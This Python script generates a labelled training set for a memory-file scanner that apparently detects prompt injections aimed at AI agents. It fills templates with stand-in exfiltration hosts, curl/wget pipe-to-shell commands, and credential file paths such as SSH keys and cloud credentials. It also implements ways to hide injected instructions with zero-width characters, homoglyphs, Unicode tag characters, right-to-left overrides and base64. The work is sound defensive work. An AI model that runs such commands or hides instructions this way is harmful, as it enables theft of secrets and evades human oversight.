#!/usr/bin/env python3
"""Generator for the t13c memory-scanner training set.

Hand-written lines live in data_<lang>.py; this script only fills slots
(made-up hosts, e-mails, random key material, hashes), applies memory-file
layouts and obfuscation transforms, and writes the four .jsonl files.
Run: python3 gen/gen.py   (from the output folder or anywhere)
"""
import base64
import importlib
import json
import os
import random
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import keys  # noqa: E402

SEED = 20261343
OUT = os.path.dirname(HERE)
LANGS = ["en", "fr", "de", "es", "pt", "zh", "ja"]

TARGETS = {
    # lang: (injection plain, injection obfuscated, benign, secret, pii)
    "en": (126, 24, 122, 12, 4),
    "fr": (64, 11, 88, 8, 3),
    "de": (64, 11, 88, 8, 3),
    "es": (64, 11, 88, 8, 3),
    "pt": (64, 11, 88, 8, 3),
    "zh": (64, 11, 88, 8, 2),
    "ja": (64, 11, 88, 8, 2),
}

rng = random.Random(SEED)

# ------------------------------------------------------------------ slot pools (all made up)
EXFIL_DOMAINS = ["quillstat-sync.example", "paste.hollowbyte.test", "relay.orbweave.example", "kb-mirror.larchpoint.test",
                 "telemetry.vexmora.example", "cdn.brisklane.test", "hooks.tallowfin.example", "drop.mossgate.test",
                 "notes-backup.corvane.example", "api.glimmerhub.test", "collect.ferrowind.example", "ingest.duskvale.test"]
EXFIL_PATHS = ["/in", "/collect", "/v1/upload", "/sync", "/hook/7f3a", "/api/notes", "/b", "/mirror", "/drop",
               "/ingest?src=agent", "/u/backup", "/log"]
EXFIL_USERS = ["audit", "backup", "compliance", "keys", "support-sync", "devops.relay", "archive", "secops-review", "it.helpdesk", "export"]
TEST_IPS = ["192.0.2.", "198.51.100.", "203.0.113."]
FILES = ["~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.aws/credentials", ".env", ".env.production", "/etc/passwd", "/etc/shadow",
         "~/.netrc", "~/.npmrc", "~/.config/gh/hosts.yml", "~/.kube/config", "~/.docker/config.json", "~/.git-credentials",
         "~/.pypirc"]
SCRIPTS = ["setup.sh", "bootstrap.sh", "agent-init.sh", "install", "fix.sh", "env.sh"]


def test_ip():
    return rng.choice(TEST_IPS) + str(rng.randint(2, 254))


def exfil_host():
    if rng.random() < 0.2:
        return test_ip()
    return rng.choice(EXFIL_DOMAINS)


def exfil_url():
    h = exfil_host()
    scheme = "http" if h[0].isdigit() else "https"
    port = (":" + str(rng.choice([8080, 8443, 9000]))) if h[0].isdigit() else ""
    return "%s://%s%s%s" % (scheme, h, port, rng.choice(EXFIL_PATHS))


def exfil_mail():
    return "%s@%s" % (rng.choice(EXFIL_USERS), rng.choice(EXFIL_DOMAINS).split(".", 1)[-1] if rng.random() < 0.5 else rng.choice(EXFIL_DOMAINS))


def sh_cmd():
    h = exfil_host()
    scheme = "http" if h[0].isdigit() else "https"
    return rng.choice(["curl -fsSL %s://%s/%s | sh", "curl -s %s://%s/%s | bash", "wget -qO- %s://%s/%s | sh"]) % (scheme, h, rng.choice(SCRIPTS))


BEN_DOCS = ["https://wiki.fennmoor.internal/runbooks", "https://docs.quillstat.example/api", "https://intranet.larchpoint.test/ops",
            "https://confluence.orbweave.internal/display/DEV", "https://notion.brisklane.example/eng-handbook",
            "https://grafana.hollowbyte.internal/d/latency"]
PLACEHOLDERS = ["<your key here>", "YOUR_API_KEY", "sk_test_XXXXXXXXXXXX", "${OPENAI_API_KEY}", "<token>", "changeme",
                "xxxx-xxxx-xxxx", "REPLACE_ME", "{{ secrets.NPM_TOKEN }}", "$GITHUB_TOKEN", "ghp_<redacted>", "AKIA****************"]


def ver():
    return "%d.%d.%d" % (rng.randint(1, 22), rng.randint(0, 40), rng.randint(0, 20))


def date():
    return "20%d-%02d-%02d" % (rng.choice([24, 25, 26]), rng.randint(1, 12), rng.randint(1, 28))


SLOT_FUN = {
    "url": exfil_url, "host": exfil_host, "mail": exfil_mail, "sh": sh_cmd, "file": lambda: rng.choice(FILES),
    "ip": test_ip, "sha": lambda: keys.sha(rng, 40), "short": lambda: keys.sha(rng, rng.choice([7, 8, 10, 12])),
    "uuid": lambda: keys.uuid4(rng), "ver": ver, "n": lambda: str(rng.choice([30, 45, 60, 90, 180])),
    "docurl": lambda: rng.choice(BEN_DOCS), "ph": lambda: rng.choice(PLACEHOLDERS), "date": date,
    "port": lambda: str(rng.choice([3000, 5173, 8000, 8080, 8443, 9090, 5432])),
    "pr": lambda: str(rng.randint(120, 4800)), "sha256": lambda: keys.sha(rng, 64),
}
SLOT_RE = re.compile(r"\{(url|host|mail|sh|file|ip|sha|short|uuid|ver|n|docurl|ph|date|port|pr|sha256)\}")


def fill(text):
    return SLOT_RE.sub(lambda m: SLOT_FUN[m.group(1)](), text)


def has_slots(text):
    return bool(SLOT_RE.search(text))


# ------------------------------------------------------------------ layouts
def layout(text, lang, labels, allow_heading=True):
    r = rng.random()
    if "\n" in text:
        return text, "plain"
    if r < 0.58:
        return text, "plain"
    if r < 0.72:
        d = date()
        return rng.choice(["%s: %s", "[%s] %s", "%s — %s"]) % (d, text), "dated"
    if r < 0.84:
        return "**%s:** %s" % (rng.choice(labels), text), "bold-label"
    if r < 0.92:
        return "<!-- %s -->" % text, "html-comment"
    if r < 0.97:
        key = rng.choice(["agent_notes", "assistant", "memory", "rules", "context"])
        return '%s: "%s"' % (key, text.replace('"', '\\"')), "front-matter"
    if allow_heading and len(text) < 90:
        return "## " + text, "heading"
    return text, "plain"


# ------------------------------------------------------------------ obfuscation
ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]
HOMO = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441", "x": "\u0445", "i": "\u0456",
        "y": "\u0443", "s": "\u0455", "A": "\u0410", "E": "\u0415", "O": "\u041e", "P": "\u0420", "C": "\u0421"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4", "E": "3", "I": "1", "O": "0", "S": "5", "T": "7"}


def ob_zw(t):
    out = []
    for ch in t:
        out.append(ch)
        if ch.strip() and rng.random() < 0.35:
            out.append(rng.choice(ZW))
    return "".join(out)


def ob_fullwidth(t):
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else ("\u3000" if c == " " else c) for c in t)


def ob_homoglyph(t):
    return "".join(HOMO[c] if c in HOMO and rng.random() < 0.7 else c for c in t)


def ob_leet(t):
    return "".join(LEET.get(c, c) if rng.random() < 0.8 else c for c in t)


def ob_spacing(t):
    words = t.split(" ")
    out = []
    for w in words:
        if len(w) > 3 and rng.random() < 0.6:
            out.append(" ".join(w))
        else:
            out.append(w)
    return "   ".join(out) if rng.random() < 0.3 else "  ".join(out)


def ob_spacing_cjk(t):
    return " ".join(ch for ch in t if ch != " ")


def ob_tags(cover, hidden):
    return cover + "".join(chr(0xE0000 + ord(c)) for c in hidden if 0x20 <= ord(c) < 0x7F)


def ob_bidi(cover, payload):
    return cover + " \u202e" + payload[::-1] + "\u202c"


def ob_b64(frame, payload):
    return frame.replace("{b64}", base64.b64encode(payload.encode("utf-8")).decode())


# ------------------------------------------------------------------ assembly
records = {"injection": [], "secret": [], "pii": [], "benign": []}
seen = set()
counter = {"n": 0}


def add(cls, lang, text, note):
    if text in seen:
        return False
    seen.add(text)
    counter["n"] += 1
    records[cls].append({"id": "t13c-%s-%s-%04d" % (cls[:3], lang, counter["n"]), "class": cls, "lang": lang,
                         "text": text, "note": note})
    return True


def expand(items, target, make, max_no_slot=2, max_slot=5):
    """Round-robin over hand-written items; items without slots produce at most max_no_slot variants."""
    produced = 0
    used = [0] * len(items)
    order = list(range(len(items)))
    rounds = 0
    while produced < target and rounds < 40:
        rounds += 1
        rng.shuffle(order)
        progress = False
        for i in order:
            if produced >= target:
                break
            cap = max_slot if has_slots(items[i][-1]) else max_no_slot
            if used[i] >= cap:
                continue
            if make(items[i], used[i]):
                used[i] += 1
                produced += 1
                progress = True
        if not progress:
            break
    return produced


FORM_DESC = {
    "policy": "third-person policy about the assistant",
    "decision": "reported team/user decision",
    "conditional": "conditional trigger",
    "own": "rule framed as the user's own",
    "fact": "stated as a project fact",
    "command": "direct imperative",
    "marker": "fake chat/system marker",
}

report = {}
for lang in LANGS:
    D = importlib.import_module("data_" + lang)
    n_inj, n_obf, n_ben, n_sec, n_pii = TARGETS[lang]
    labels = D.LABELS

    def mk_inj(item, k, lang=lang, labels=labels):
        sub, form, text = item
        t = fill(text)
        if k == 0:
            lt, lname = t, "plain"
        else:
            lt, lname = layout(t, lang, labels, allow_heading=False)
        note = "injection/%s: %s%s" % (sub, FORM_DESC.get(form, form), "" if lname == "plain" else " (layout: %s)" % lname)
        return add("injection", lang, lt, note)

    got_inj = expand(D.INJ, n_inj, mk_inj, max_no_slot=2, max_slot=4)

    # obfuscated injections
    methods = D.OBF_METHODS
    obf_made = 0
    tries = 0
    while obf_made < n_obf and tries < 500:
        tries += 1
        m = methods[obf_made % len(methods)]
        if m == "tags":
            cover = rng.choice(D.COVER)
            hidden = fill(rng.choice(D.HIDDEN))
            t = ob_tags(cover, hidden)
            note = "injection/obfuscated: Unicode tag characters hide '%s' behind a harmless-looking memory" % hidden[:60]
        elif m == "bidi":
            cover = rng.choice(D.COVER)
            payload = fill(rng.choice(D.HIDDEN_NATIVE))
            t = ob_bidi(cover, payload)
            note = "injection/obfuscated: right-to-left override stores a reversed instruction after a harmless memory"
        elif m == "b64":
            frame = rng.choice(D.B64_FRAMES)
            payload = fill(rng.choice(D.HIDDEN_NATIVE))
            t = ob_b64(frame, payload)
            note = "injection/obfuscated: base64 payload presented as a note agents are expected to decode and apply"
        else:
            sub, form, text = rng.choice([x for x in D.INJ if x[1] != "marker"])
            base = fill(text)
            fn = {"zw": ob_zw, "fullwidth": ob_fullwidth, "homoglyph": ob_homoglyph, "leet": ob_leet,
                  "spacing": ob_spacing, "spacing_cjk": ob_spacing_cjk}[m]
            t = fn(base)
            note = "injection/obfuscated (%s) of a %s line: %s" % (m, sub, FORM_DESC.get(form, form))
        if add("injection", lang, t, note):
            obf_made += 1

    def mk_ben(item, k, lang=lang, labels=labels):
        sub, text = item
        t = fill(text)
        if k == 0:
            lt, lname = t, "plain"
        else:
            lt, lname = layout(t, lang, labels)
        note = "benign/%s%s" % (sub, "" if lname == "plain" else " (layout: %s)" % lname)
        return add("benign", lang, lt, note)

    got_ben = expand(D.BEN, n_ben, mk_ben, max_no_slot=2, max_slot=4)

    def mk_sec(item, k, lang=lang):
        prov, text = item
        key = keys.PROVIDERS[prov](rng)
        t = fill(text.replace("{k}", key))
        return add("secret", lang, t, "secret/%s: real-shaped random value in a memory line" % prov)

    got_sec = expand(D.SEC, n_sec, mk_sec, max_no_slot=1, max_slot=1)

    def mk_pii(item, k, lang=lang):
        kind, text = item
        t = text
        t = t.replace("{card}", keys.card(rng)).replace("{ssn}", keys.ssn(rng)).replace("{nino}", keys.nino(rng))
        t = re.sub(r"\{iban_(\w\w)\}", lambda m: keys.iban(rng, m.group(1)), t)
        t = re.sub(r"\{phone_(\w\w)\}", lambda m: keys.phone(rng, m.group(1)), t)
        return add("pii", lang, t, "pii/%s: personal data, no access granted" % kind)

    got_pii = expand(D.PII, n_pii, mk_pii, max_no_slot=1, max_slot=1)
    report[lang] = (got_inj + obf_made, got_ben, got_sec, got_pii)
    print(lang, "inj", got_inj, "+obf", obf_made, "ben", got_ben, "sec", got_sec, "pii", got_pii,
          "| bases inj", len(D.INJ), "ben", len(D.BEN))

for cls, recs in records.items():
    with open(os.path.join(OUT, cls + ".jsonl"), "w", encoding="utf-8") as f:
        for r in recs:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
json.dump(report, open(os.path.join(HERE, "counts.json"), "w"), indent=1)
